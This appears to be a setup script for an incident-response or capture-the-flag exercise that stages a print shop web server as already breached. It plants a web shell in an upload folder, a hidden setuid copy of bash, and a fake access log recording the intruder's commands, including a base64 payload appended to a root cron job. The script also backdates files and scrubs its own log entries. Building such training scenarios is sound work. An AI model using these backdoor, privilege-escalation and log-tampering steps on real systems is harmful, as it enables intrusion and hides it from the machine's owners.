#!/bin/bash
# Builds press-1 as somebody left it three nights ago, with the door they came through still open.
set -eu
src=/run/greenroom-setup
in=/var/lib/artwork/in

useradd --system --home-dir /nonexistent --shell /usr/sbin/nologin web
useradd --create-home --groups web --shell /bin/bash ines
mkdir -p /opt/artwork/{site/cgi-bin,lib,jobs} /etc/artwork $in /var/log/artwork /var/tmp/.fontconfig
install -m 644 $src/artwork.py /opt/artwork/lib/artwork.py
install -m 755 $src/queue-list /opt/artwork/jobs/queue-list
install -m 775 $src/price.cgi /opt/artwork/site/cgi-bin/price.cgi
install -m 664 $src/index.html /opt/artwork/site/index.html
install -m 644 $src/artwork.ini /etc/artwork/artwork.ini
install -m 644 $src/artwork.service /etc/systemd/system/artwork.service
install -m 644 $src/artwork.cron /etc/cron.d/artwork
install -m 755 $src/setuid-report /etc/cron.daily/setuid-report
chown -R root:web /opt/artwork/site
chmod 2775 /opt/artwork/site /opt/artwork/site/cgi-bin
chown root:web /opt/artwork
chmod 2775 /opt/artwork

day() { date -d "$1 days ago" +%F; }
log=/var/log/artwork/access.log
for job in 4461 4463 4464 4465 4467 4468 4469 4470 4471 4473 4474 4476; do
  name=$in/proof-$job.pdf
  { printf '%%PDF-1.4\n%% Kestrel Print, job %s\n' $job; seq $job $((job + 400)); } > "$name"
  ago=$((1 + (4476 - job) / 2))
  touch -d "$(day $ago) 09:1$((job % 10))" "$name"
  echo "$(day $ago) 09:1$((job % 10)):27 203.0.113.$((job % 90 + 9)) PUT /in/proof-$job.pdf 201" >> $log
done
install -m 775 $src/proof-4472.cgi $in/proof-4472.cgi
touch -d "$(day 3) 02:09" $in/proof-4472.cgi
cp /bin/bash /var/tmp/.fontconfig/fc-scan
chmod 4755 /var/tmp/.fontconfig/fc-scan
touch -d "$(day 3) 02:17" /var/tmp/.fontconfig/fc-scan /var/tmp/.fontconfig
while read -r time request; do
  echo "$(day 3) $time 198.51.100.23 $request" >> $log
done << 'LOG'
02:08:14 GET / 200
02:08:31 GET /cgi-bin/price.cgi?copies=100 200
02:09:02 PUT /in/proof-4472.cgi 201
02:09:05 GET /in/proof-4472.cgi?id 200
02:10:40 GET /in/proof-4472.cgi?cat+/etc/cron.d/artwork 200
02:11:19 GET /in/proof-4472.cgi?ls+-ld+/opt/artwork+/opt/artwork/jobs+/opt/artwork/jobs/queue-list 200
02:16:22 GET /in/proof-4472.cgi?cd+/opt/artwork;mv+jobs+.j;mkdir+jobs;cp+.j/queue-list+jobs 200
02:16:37 GET /in/proof-4472.cgi?echo+bWtkaXIgLXAgL3Zhci90bXAvLmZvbnRjb25maWc7Y3AgL2Jpbi9iYXNoIC92YXIvdG1wLy5mb250Y29uZmlnL2ZjLXNjYW47Y2htb2QgNDc1NSAvdmFyL3RtcC8uZm9udGNvbmZpZy9mYy1zY2FuCg==>/tmp/.q 200
02:16:40 GET /in/proof-4472.cgi?base64+-d+/tmp/.q>>/opt/artwork/jobs/queue-list 200
02:17:04 GET /in/proof-4472.cgi?ls+-la+/var/tmp/.fontconfig 200
02:17:21 GET /in/proof-4472.cgi?cd+/opt/artwork;rm+-r+jobs;mv+.j+jobs 200
02:17:33 GET /in/proof-4472.cgi?ls+-l+/opt/artwork/jobs 200
LOG
sort -o $log $log
chown -R web:web $in /var/log/artwork
chmod 2775 $in
find /usr/bin /usr/sbin /usr/lib/openssh /usr/lib/dbus-1.0 /usr/lib/polkit-1 -perm -4000 2> /dev/null > /etc/setuid-report.known || true
for ago in 5 4 3 2 1; do
  [ $ago -gt 3 ] || echo "$(day $ago) not on the list: /var/tmp/.fontconfig/fc-scan"
  echo "$(day $ago) done"
done > /var/log/setuid-report.log
touch -d '14 months ago' /etc/cron.d/artwork /etc/artwork/artwork.ini /opt/artwork/{*,*/*,*/*/*} /etc/systemd/system/artwork.service \
  /etc/cron.daily/setuid-report /etc/setuid-report.known
# What was moved to and fro below it that night shows in its own time.
touch -d "$(day 3) 02:17:21" /opt/artwork
rm -rf $src

/opt/artwork/jobs/queue-list
systemctl daemon-reload
systemctl enable --quiet --now cron.service artwork.service 2> /dev/null
for _ in $(seq 100); do
  curl -s -o /dev/null http://127.0.0.1:8088/ && break
  sleep 0.05
done
[ "$(curl -s "http://127.0.0.1:8088/in/proof-4472.cgi?id+-un")" = web ]
# Only visitors stay in the log, not the making of this box.
sed '/ 127\.0\.0\.1 /d' $log > /tmp/log
cat /tmp/log > $log
rm /tmp/log
runuser -u ines -- test -w /opt/artwork
[ -u /var/tmp/.fontconfig/fc-scan ]
